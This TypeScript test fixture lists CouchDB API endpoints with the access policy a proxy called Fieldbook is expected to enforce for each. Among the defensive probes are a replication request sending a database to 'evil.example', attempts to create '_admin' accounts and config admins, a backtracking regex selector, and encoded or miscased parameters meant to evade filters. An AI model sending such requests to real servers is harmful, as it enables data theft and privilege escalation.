// The endpoint table of the gate matrix (gate-matrix.test.ts): CouchDB's API reference by
// family — server, database, document, attachment, design, _find/_index/_explain, bulk, all
// docs, _changes with every filter kind and parameter spelling, revisions, maintenance,
// _security, _session, _users, replication and node endpoints — each with what Fieldbook's
// policy allows:
//   anyone         every caller gets an answer (2xx)
//   member-read    members of the database (and the server admin) read; everyone else refused
//   member-write   members may send it (their validate_doc_update then decides); others refused
//   admin          the server admin only
//   admin-destroy  the server admin only, and not sent as the admin (it would change the server)
//   nowhere        refused to everyone, the server admin included (not offered through /db)
export type Policy =
  'anyone' | 'member-read' | 'member-write' | 'admin' | 'admin-destroy' | 'nowhere';

export interface Endpoint {
  family: string;
  method: string;
  /** `{db}` and `{doc}` (an existing document of that database) are filled in. */
  path: string;
  body?: unknown;
  contentType?: string;
  policy: Policy;
  /** A feed that may never end (the embedded server ignores `limit` there): status only. */
  stream?: boolean;
  /** Statuses a permitted caller may get besides 2xx (a missing document, a refused write). */
  alsoOk?: number[];
}

const FIND = { selector: { _id: { $gt: null } } };
const REGEX = { selector: { findings: { $regex: '^(?:[a-z]|[a-z]){0,12}Z' } } };
export const JUNK_ID = 'matrix-junk';
const junk = { _id: JUNK_ID, kind: 'junk' };
const CHECKPOINT = 'Ab.cd_EFghIJklMNopQRst%3D%3D';

const db = (
  family: string,
  method: string,
  path: string,
  policy: Policy,
  extra: Partial<Endpoint> = {},
): Endpoint => ({ family, method, path: `/{db}${path}`, policy, ...extra });

export const DB_ENDPOINTS: Endpoint[] = [
  // Database.
  db('database', 'GET', '', 'member-read'),
  db('database', 'GET', '/', 'member-read'),
  db('database', 'HEAD', '', 'member-read'),
  db('database', 'PUT', '', 'admin-destroy'),
  db('database', 'DELETE', '', 'admin-destroy'),
  db('database', 'POST', '', 'member-write', { body: junk, alsoOk: [400, 403] }),
  // Documents.
  db('document', 'GET', '/{doc}', 'member-read'),
  db('document', 'GET', '/{doc}?revs=true&open_revs=all', 'member-read'),
  db('document', 'GET', '/{doc}?conflicts=true&revs_info=true', 'member-read'),
  db('document', 'HEAD', '/{doc}', 'member-read'),
  db('document', 'PUT', `/${JUNK_ID}`, 'member-write', { body: junk, alsoOk: [400, 403] }),
  db('document', 'DELETE', '/{doc}?rev=1-0123456789abcdef0123456789abcdef', 'member-write', {
    alsoOk: [400, 403, 404, 409],
  }),
  db('document', 'COPY', '/{doc}', 'admin-destroy'),
  db('document', 'GET', '/{doc}?include_docs=true', 'admin'),
  // Attachments.
  db('attachment', 'GET', '/{doc}/photo.jpg', 'member-read', { alsoOk: [404] }),
  db('attachment', 'PUT', '/{doc}/photo.jpg', 'admin-destroy', {
    body: 'abc',
    contentType: 'image/jpeg',
  }),
  db('attachment', 'DELETE', '/{doc}/photo.jpg', 'admin-destroy'),
  // Design documents and their functions.
  db('design', 'GET', '/_design/fieldbook', 'member-read'),
  db('design', 'GET', '/_design%2Ffieldbook', 'member-read'),
  db('design', 'PUT', '/_design/evil', 'admin-destroy', { body: { views: {} } }),
  db('design', 'PUT', '/_design%2Fevil', 'admin-destroy', { body: { views: {} } }),
  db('design', 'DELETE', '/_design/fieldbook?rev=1-x', 'admin-destroy'),
  db('design', 'GET', '/_design/fieldbook/_info', 'admin', { alsoOk: [404] }),
  db('design', 'GET', '/_design/fieldbook/_view/all', 'admin', { alsoOk: [404] }),
  db('design', 'GET', '/_design/fieldbook/_show/x', 'admin', { alsoOk: [400, 404, 410] }),
  db('design', 'GET', '/_design/fieldbook/_list/x/y', 'admin', { alsoOk: [400, 404, 410] }),
  db('design', 'POST', '/_design/fieldbook/_update/x', 'admin-destroy', { body: {} }),
  db('design', 'GET', '/_design/fieldbook/_rewrite/x', 'admin', { alsoOk: [400, 404, 410] }),
  db('design', 'GET', '/_design/fieldbook/validate.js', 'admin', { alsoOk: [404] }),
  db('design', 'GET', '/_design_docs', 'admin', { alsoOk: [404] }),
  db('design', 'POST', '/_temp_view', 'admin', {
    alsoOk: [400, 404, 410],
    body: { map: 'function(d){emit(d)}' },
  }),
  // Mango.
  db('mango', 'POST', '/_find', 'admin', { body: FIND, alsoOk: [400, 404] }),
  db('mango', 'POST', '/_find', 'admin', { body: REGEX, alsoOk: [400, 404] }),
  db('mango', 'POST', '/_explain', 'admin', { body: FIND, alsoOk: [400, 404] }),
  db('mango', 'GET', '/_index', 'admin', { alsoOk: [404] }),
  db('mango', 'POST', '/_index', 'admin-destroy', { body: { index: { fields: ['kind'] } } }),
  db('mango', 'DELETE', '/_index/_design/x/json/y', 'admin-destroy'),
  db('mango', 'POST', '/_index/_bulk_delete', 'admin-destroy', { body: { docids: [] } }),
  // Bulk and all docs.
  db('bulk', 'POST', '/_bulk_get', 'member-read', { body: { docs: [{ id: '{doc}' }] } }),
  db('bulk', 'POST', '/_bulk_get?revs=true&latest=true', 'member-read', {
    body: { docs: [{ id: '{doc}' }] },
  }),
  db('bulk', 'POST', '/_bulk_get', 'member-read', {
    body: { docs: [{ id: '_local/fieldbook-plan-provisioned' }] },
    policy: 'admin',
  }),
  db('bulk', 'POST', '/_bulk_docs', 'member-write', {
    body: { docs: [junk] },
    alsoOk: [201, 400, 403],
  }),
  db('bulk', 'POST', '/_bulk_docs', 'admin-destroy', {
    body: { docs: [{ _id: '_local/_security', members: { names: [], roles: [] } }] },
  }),
  db('all docs', 'GET', '/_all_docs', 'member-read'),
  db('all docs', 'GET', '/_all_docs?include_docs=true&limit=50', 'member-read'),
  db('all docs', 'POST', '/_all_docs?include_docs=true', 'member-read', {
    body: { keys: ['{doc}'] },
  }),
  db('all docs', 'GET', '/_all_docs?include_docs=true&limit=5&LIMIT=1', 'admin', {
    alsoOk: [400],
  }),
  db('all docs', 'GET', '/_local_docs', 'admin', { alsoOk: [404] }),
  db('all docs', 'GET', '/_all_docs/queries', 'admin', { alsoOk: [400, 404, 405] }),
  // _changes: what replication sends passes; every other filter kind and spelling does not.
  db('changes', 'GET', '/_changes', 'member-read'),
  db('changes', 'GET', '/_changes?style=all_docs&since=0&limit=100', 'member-read'),
  db('changes', 'GET', '/_changes?include_docs=true&limit=100', 'member-read'),
  db('changes', 'GET', '/_changes?feed=longpoll&timeout=1000&since=0&limit=1', 'member-read'),
  db('changes', 'GET', '/_changes?filter=_doc_ids&doc_ids=%5B%22{doc}%22%5D', 'member-read'),
  db('changes', 'POST', '/_changes?filter=_doc_ids', 'member-read', {
    body: { doc_ids: ['{doc}'] },
  }),
  db('changes', 'GET', '/_changes?filter=_doc_ids', 'admin', { alsoOk: [400] }),
  db('changes', 'GET', '/_changes?doc_ids=%5B%22{doc}%22%5D', 'admin'),
  db('changes', 'GET', '/_changes?feed=continuous&since=0&limit=1', 'admin', { stream: true }),
  db('changes', 'GET', '/_changes?feed=eventsource&since=0&limit=1', 'admin', { stream: true }),
  db('changes', 'GET', '/_changes?filter=_selector', 'admin', { alsoOk: [400, 404] }),
  db('changes', 'POST', '/_changes?filter=_selector', 'admin', { body: REGEX, alsoOk: [400, 404] }),
  db(
    'changes',
    'GET',
    '/_changes?selector=%7B%22_id%22%3A%7B%22%24regex%22%3A%22a%22%7D%7D',
    'admin',
  ),
  db('changes', 'GET', '/_changes?filter=_view&view=fieldbook/all', 'admin', {
    alsoOk: [400, 404],
  }),
  db('changes', 'GET', '/_changes?view=fieldbook/all', 'admin', { alsoOk: [400, 404] }),
  db('changes', 'GET', '/_changes?filter=_design', 'admin', { alsoOk: [400, 404] }),
  db('changes', 'GET', '/_changes?filter=fieldbook/x', 'admin', { alsoOk: [400, 404] }),
  db('changes', 'GET', '/_changes?filter%5B%5D=_selector', 'admin', { alsoOk: [400, 404] }),
  db('changes', 'GET', '/_changes?filter%5B0%5D=_view', 'admin', { alsoOk: [400, 404] }),
  db('changes', 'GET', '/_changes?FILTER=fieldbook/x', 'admin', { alsoOk: [400, 404] }),
  db('changes', 'GET', '/_changes?Filter=_view', 'admin', { alsoOk: [400, 404] }),
  db('changes', 'GET', '/_changes?filter=_doc_ids&filter=_view', 'admin', { alsoOk: [400, 404] }),
  db('changes', 'GET', '/_changes?since=0;filter=_view', 'admin', { alsoOk: [400, 404] }),
  db('changes', 'GET', '/_changes?limit=99999999', 'admin', { alsoOk: [400] }),
  db('changes', 'GET', '/_changes?heartbeat=1&feed=longpoll&since=0&limit=1', 'admin', {
    alsoOk: [400],
  }),
  // Revisions.
  db('revisions', 'POST', '/_revs_diff', 'member-read', { body: { '{doc}': ['1-abc'] } }),
  db('revisions', 'POST', '/_missing_revs', 'admin', {
    body: { '{doc}': ['1-abc'] },
    alsoOk: [404, 405],
  }),
  db('revisions', 'GET', '/_revs_limit', 'admin'),
  db('revisions', 'PUT', '/_revs_limit', 'admin-destroy', { body: 1 }),
  // Local documents: checkpoints only.
  db('local', 'GET', `/_local/${CHECKPOINT}`, 'member-read', { alsoOk: [404] }),
  db('local', 'PUT', `/_local/${CHECKPOINT}`, 'member-write', {
    body: { session_id: 'm', history: [], replicator: 'pouchdb', version: 1, last_seq: 0 },
    alsoOk: [409],
  }),
  db('local', 'GET', '/_local/_security', 'admin', { alsoOk: [404] }),
  db('local', 'PUT', '/_local/_security', 'admin-destroy', { body: { members: {} } }),
  db('local', 'DELETE', '/_local/_security', 'admin-destroy'),
  db('local', 'GET', '/_local/fieldbook-plan-provisioned', 'admin', { alsoOk: [404] }),
  db('local', 'PUT', '/_local/fieldbook-plan-provisioned', 'admin-destroy', { body: { revs: {} } }),
  // Maintenance.
  db('maintenance', 'POST', '/_compact', 'admin-destroy', { body: {} }),
  db('maintenance', 'POST', '/_compact/fieldbook', 'admin-destroy', { body: {} }),
  db('maintenance', 'POST', '/_view_cleanup', 'admin-destroy', { body: {} }),
  db('maintenance', 'POST', '/_purge', 'admin-destroy', { body: { '{doc}': ['1-abc'] } }),
  db('maintenance', 'POST', '/_ensure_full_commit', 'admin-destroy', { body: {} }),
  db('maintenance', 'GET', '/_shards', 'admin', { alsoOk: [400, 404] }),
  db('maintenance', 'GET', '/_partition/p/_all_docs', 'admin', { alsoOk: [400, 404] }),
  // Security.
  db('security', 'GET', '/_security', 'admin'),
  db('security', 'PUT', '/_security', 'admin-destroy', {
    body: { admins: { names: [], roles: [] }, members: { names: [], roles: [] } },
  }),
];

const server = (
  family: string,
  method: string,
  path: string,
  policy: Policy,
  extra: Partial<Endpoint> = {},
): Endpoint => ({ family, method, path, policy, ...extra });

export const SERVER_ENDPOINTS: Endpoint[] = [
  server('server', 'GET', '/', 'anyone'),
  server('server', 'GET', '/_up', 'admin', { alsoOk: [404] }),
  server('server', 'GET', '/_uuids?count=3', 'admin'),
  server('server', 'GET', '/_all_dbs', 'admin'),
  server('server', 'POST', '/_dbs_info', 'admin', {
    body: { keys: ['_users'] },
    alsoOk: [400, 404],
  }),
  server('server', 'GET', '/_active_tasks', 'nowhere'),
  server('server', 'GET', '/_db_updates', 'nowhere'),
  server('server', 'GET', '/_membership', 'nowhere'),
  server('server', 'GET', '/_stats', 'nowhere'),
  server('server', 'GET', '/_utils/', 'nowhere'),
  server('server', 'POST', '/_restart', 'nowhere', { body: {} }),
  server('server', 'GET', '/_cluster_setup', 'nowhere'),
  server('server', 'GET', '/_reshard', 'nowhere'),
  server('server', 'POST', '/_search_analyze', 'nowhere', { body: {} }),
  server('config', 'GET', '/_config', 'nowhere'),
  server('config', 'GET', '/%5Fconfig', 'nowhere'),
  server('config', 'PUT', '/_config/admins/evil', 'nowhere', { body: 'x' }),
  server('node', 'GET', '/_node/_local/_config', 'nowhere'),
  server('node', 'PUT', '/_node/_local/_config/admins/evil', 'nowhere', { body: 'x' }),
  server('node', 'GET', '/_node/nonode@nohost/_stats', 'nowhere'),
  server('node', 'GET', '/_node/_local/_system', 'nowhere'),
  server('replication', 'POST', '/_replicate', 'nowhere', {
    body: { source: 'fieldbook-hong-phong-police', target: 'http://evil.example/x' },
  }),
  server('replication', 'GET', '/_scheduler/jobs', 'nowhere'),
  server('replication', 'GET', '/_scheduler/docs', 'nowhere'),
  server('session', 'GET', '/_session', 'anyone'),
  server('session', 'PUT', '/_session', 'nowhere', { body: {} }),
  // _users: the server admin's; accounts go through /api/users.
  server('users', 'GET', '/_users', 'admin'),
  server('users', 'GET', '/_users/_all_docs?include_docs=true', 'admin'),
  server('users', 'GET', '/%5Fusers/_all_docs', 'admin'),
  server('users', 'GET', '/_users/org.couchdb.user:canbo', 'admin'),
  server('users', 'POST', '/_users/_find', 'admin', { body: FIND }),
  server('users', 'GET', '/_users/_changes?include_docs=true', 'admin'),
  server('users', 'PUT', '/_users/org.couchdb.user:evil', 'admin-destroy', {
    body: { name: 'evil', type: 'user', roles: ['_admin'], password: 'x' },
  }),
  server('users', 'GET', '/_replicator/_all_docs', 'admin'),
];
